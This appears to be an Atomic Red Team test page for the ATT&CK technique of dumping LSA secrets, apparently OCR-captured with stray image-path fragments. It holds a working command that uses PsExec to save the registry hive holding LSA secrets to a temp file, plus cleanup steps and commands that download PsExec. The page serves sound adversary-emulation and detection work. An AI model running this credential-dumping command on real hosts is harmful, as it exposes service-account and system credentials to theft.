T1003.004 - OS Credential Dumping: LSA Secrets

Description from ATT&CK

Adversaries with SYSTEM access to a host may attempt to access Local Security Authority (LSA) secrets, which can contain a variety of different credential materials, such as credentials for service accounts.(Citation: Passcape LSASecrets)(Citation: Microsoft AD Admin Tier Model)(Citation: Tilbury Windows Credentials) LSA secrets are stored in the registry at HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets. LSA secrets can also be dumped from memory.(Citation: ired Dumping LSA Secrets) [Reg](https://attack.mitre.org/software/S0075) can be used to extract from the Registry. [Mimikatz](https://attack.mitre.org/software/S0002) can be used to extract secrets from memory.(Citation: ired Dumping LSA Secrets)

Atomic Tests

Atomic Test #1 - Dumping LSA Secrets

Dump secrets key from Windows registry When successful, the dumped file will be written to $env:Temp\secrets. Attackers may use the secrets key to assist with extracting passwords and enumerating other sensitive system information. https://pentestlab.blog/2018/04/04/dumping-clear-text-credentials/#:~:text=LSA%20Secrets%20is%20a%20registry,host%2C%20local%20security%20policy%20etc.

Supported Platforms: Windows

auto_generated_guid: 55295ab0-a703-433b-9ca4-ae13807de12f


| Name | Description | Type | Default Value | |——|————-|——|—————| | psexec_exe | Path to PsExec executable | path | PathToAtomicsFolder\..\ExternalPayloads\T1003.004\bin\PsExec.exe|

Attack Commands: Run with
! Elevation Required (e.g. root or admin)

"#{psexec_exe}" -accepteula -s reg save HKLM\security\policy\secrets %temp%\secrets /y

Cleanup Commands:

del %temp%\secrets >nul 2> nul

Dependencies: Run with

Description: PsExec from Sysinternals must exist on disk at specified location (#{psexec_exe})
Check Prereq Commands:
if (Test-Path "#{psexec_exe}") {exit 0} else {exit 1}Get Prereq Commands:
Invoke-WebRequest "https://download.sysinternals.com/files/PSTools.zip" -OutFile "PathToAtomicsFolder\..\ExternalPayloads\PSTools.zip"
Expand-Archive "PathToAtomicsFolder\..\ExternalPayloads\PSTools.zip" "PathToAtomicsFolder\..\ExternalPayloads\PSTools" -Force
New-Item -ItemType Directory (Split-Path "#{psexec_exe}") -Force | Out-NullCopy-Item "PathToAtomicsFolder\..\ExternalPayloads\PSTools\PsExec.exe""#{psexec_exe}" -Force